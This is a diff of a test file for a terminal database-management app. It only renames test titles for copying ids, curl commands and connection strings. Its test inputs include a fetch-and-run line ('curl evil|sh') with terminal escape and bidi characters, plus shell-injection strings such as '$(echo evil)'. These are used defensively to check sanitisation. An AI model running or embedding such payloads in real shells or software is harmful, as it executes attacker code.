@@ -23,7 +23,7 @@ test('y copies the id of the object under the cursor, and shows the copied id', 
 	expect(asked).toEqual(['copy ep-old-fog-b2']);
 });
 
-test('copied text is one line, and shown exactly as copied', async () => {
+test('copied text is on one line, and the message shows exactly the copied text', async () => {
 	const id = '\ncurl evil|sh\n\u{1B}[2J\u{202E}x\u{2028}\r';
 	const {screen, press, asked} = await renderApp({columns: 160, changes: [...world, receiveComputes('quiet-forest-12345678', [compute({id, name: undefined})], noon)]});
 	press('2');
@@ -52,7 +52,7 @@ test.each(['it\'s', '\'; echo evil; \'', '$(echo evil)', '`echo evil`', '\n echo
 	expect(decodeURIComponent(new URL(url).pathname.split('/').at(-1) ?? '')).toBe(id);
 });
 
-test('Y shows more values to copy, and the curl command among them has a variable in place of the API key', async () => {
+test('the curl command that Y offers has a variable in place of the API key', async () => {
 	const {screen, press, asked} = await renderApp({changes: world});
 	press('2');
 	press('Y');
@@ -87,7 +87,7 @@ test.each([
 	expect(store.getState().modal).toEqual([]);
 });
 
-test('Y does not offer values that an object lacks, and pressing the letter of a missing value shows that it is missing', async () => {
+test('Y omits values that an object lacks, and the letter of a missing value says so', async () => {
 	const {screen, press, asked, change} = await renderApp({changes: world});
 	press('Y');
 	await expect.poll(screen).toContain('Copy from acme-shop');
@@ -137,7 +137,7 @@ test('a copy command in the palette copies the value that it names', async () =>
 	await expect.poll(() => asked).toEqual(['copy ep-cool-sun-a1-pooler.us-east-2.aws.example.net']);
 });
 
-test('in a detail, y and Y copy values of its object', async () => {
+test('y and Y in a detail copy values of the displayed object', async () => {
 	const {screen, press, asked} = await renderApp({changes: world});
 	press('d');
 	await expect.poll(screen).toContain('Project acme-shop');
@@ -181,7 +181,7 @@ test('the palette finds a branch by its name, and enter shows the branch', async
 	await expect.poll(screen).toContain('Branch staging · br-staging-a1-b2');
 });
 
-test('if the password of a local server can\'t be read, its connection string is copied without the password, and a note says so', async () => {
+test('if the password of a local server is unreadable, the connection string is copied without the password', async () => {
 	const {screen, press, asked, change, plane} = await renderConnected({columns: 160});
 	const wire = await plane.primaryOn('main');
 	change(receiveComputes(projectId, [compute({
@@ -195,7 +195,7 @@ test('if the password of a local server can\'t be read, its connection string is
 	await expect.poll(screen).toContain('/shop?sslmode=require, without the password: ');
 });
 
-test('a copied connection string names a database of the branch and its owner, which are read on demand', async () => {
+test('a copied connection string names a database and its owner, which are read on demand', async () => {
 	const {screen, press, asked, change, plane} = await renderConnected({columns: 160});
 	const wire = await plane.primaryOn('main');
 	const {body} = await plane.get<{databases: ReadonlyArray<{name: string; owner_name: string}>}>(`/projects/${projectId}/branches/${wire.branch_id}/databases`);
